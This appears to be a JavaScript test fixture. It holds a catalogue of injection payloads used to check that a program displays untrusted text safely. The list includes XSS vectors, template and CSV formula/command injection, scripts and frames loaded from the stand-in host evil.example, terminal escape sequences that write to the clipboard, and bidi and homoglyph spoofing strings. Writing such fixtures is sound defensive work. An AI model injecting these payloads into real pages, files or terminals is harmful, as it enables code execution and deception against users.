// Texts that want to be more than text. What they would plant in a page has the
// class "cwx"; what they would run sets window.cwx or asks another host.

const host = 'http://evil.example';
const sheet = `<style class=cwx>@import "${host}/x.css";*{display:none}</style>`;

/** By name, for messages of the checks. */
export const payloads = Object.entries({
  script: '<script class=cwx>alert(1);window.cwx=1</script>',
  'script src': `<script class=cwx src=${host}/x.js></script>`,
  'img onerror': '<img class=cwx src=x onerror=alert(1);window.cwx=1>',
  'img elsewhere': `<img class=cwx src="${host}/p.gif">`,
  'svg onload': '<svg class=cwx onload=alert(1)>',
  'svg script': '<svg class=cwx><script>window.cwx=1</script></svg>',
  'svg animate': '<svg class=cwx><animate onbegin=alert(1) attributeName=x dur=1s>',
  'javascript link': '<a class=cwx href=javascript:alert(1)>click</a>',
  'javascript URL': 'javascript:alert(document.domain)',
  'end of textarea': '</textarea><script class=cwx>window.cwx=1</script>',
  'end of title': '</title></head><body class=cwx onload=alert(1)>',
  'braces template': "{{constructor.constructor('window.cwx=1')()}}",
  'dollar template': '${alert(1)} `${window.cwx=1}`',
  'svelte template': '{@html "<img class=cwx src=x onerror=alert(1)>"}',
  'other templates': '#{7*7} <%= 7*7 %> {% debug %} *{7*7}',
  'ANSI colours': '\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H',
  'OSC 8 link': `\x1b]8;;${host}/\x1b\\click\x1b]8;;\x1b\\`,
  'OSC 52 clipboard': '\x1b]52;c;ZXZpbA==\x07',
  'terminal title': '\x1b]0;owned\x07',
  'C1 bytes': '\x9b31mred\x9d0;owned\x9c',
  'bidi override': 'invoice\u202egpj.exe\u202c',
  'bidi isolates': 'a\u2066b\u2067c\u2068d\u2069e\u200ef\u200fg\u061ch',
  'zero width': 'ad\u200bmin\u200c\u200d\u2060\ufeff!',
  'tag characters': 'tags\u{e0001}\u{e0041}\u{e0042}\u{e007f}!',
  'soft hyphen': 'pay\u00adpal\u180e!',
  'combining marks': `Z${'\u0301'.repeat(999)}`,
  'CSV formula': `=HYPERLINK("${host}","x")`,
  'CSV command': "@SUM(1+1)*cmd|' /C calc'!A0",
  entities: '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3c;b&#62;',
  CDATA: ']]><![CDATA[<b class=cwx>x</b>]]>',
  'nested quotes': '"\'`"\'`><b class=cwx onmouseover=alert(1)>',
  base: `<base class=cwx href=${host}/>`,
  'meta refresh': `<meta class=cwx http-equiv=refresh content="0;url=${host}/">`,
  iframe: `<iframe class=cwx src=${host}/ srcdoc="<script>parent.cwx=1</script>"></iframe>`,
  'style import': sheet,
  'attribute breakout': '"><script class=cwx>alert(1)</script>',
  'data URL': 'data:text/html,<script>alert(1)</script>',
  'object and embed': `<object class=cwx data=${host}/x></object><embed class=cwx src=${host}/y>`,
  'very long word': 'W'.repeat(1500),
  'NUL and friends': 'a\x00b\x07c\x08d\x7fe',
  overprint: 'refused\raccepted',
  prototype: '__proto__',
  constructor: 'constructor.prototype.cwx',
  'own property': 'hasOwnProperty',
  'ICU braces': '{count, plural, one {# file} other {',
  'ICU quotes': "'{name}' #{0} '{'",
  comment: '<!--><script class=cwx>alert(1)</script>-->',
  'mutation XSS': `<math class=cwx><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img class=cwx src=1 onerror=alert(1)&gt;">`,
  'shadow root': '<template class=cwx shadowrootmode=open><slot></slot></template>',
  'link element': `<link class=cwx rel=stylesheet href=${host}/x.css>`,
  form: `<form class=cwx action=${host}/><input class=cwx autofocus onfocus=alert(1)></form>`,
  homoglyphs: 'аdmіn@ехаmрlе',
  'line separators': 'one\u2028two\u2029three',
}).map(([name, text]) => ({ name, text, shown: shown(text) }));

/**
 * How a text stands on the screen: itself, but for controls as their signs and
 * for what is not seen as its number. Written without a look at the page's own.
 */
export function shown(text) {
  return [...text]
    .map((c) => {
      const code = c.codePointAt(0);
      if (code === 9) return c;
      if (code < 0x20) return String.fromCodePoint(0x2400 + code);
      if (code === 0x7f) return '\u2421';
      return /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(c)
        ? `\u27e8U+${code.toString(16).toUpperCase().padStart(4, '0')}\u27e9`
        : c;
    })
    .join('');
}

/** Those that can be part of a file's name: no slash, no NUL, and not too long. */
export const names = payloads
  .map((p) => ({ ...p, text: p.text.replaceAll('/', '').replaceAll('\0', '').slice(0, 60) }))
  .filter((p) => p.text.length > 1)
  .map((p) => ({ name: p.name, text: p.text, shown: shown(p.text) }));
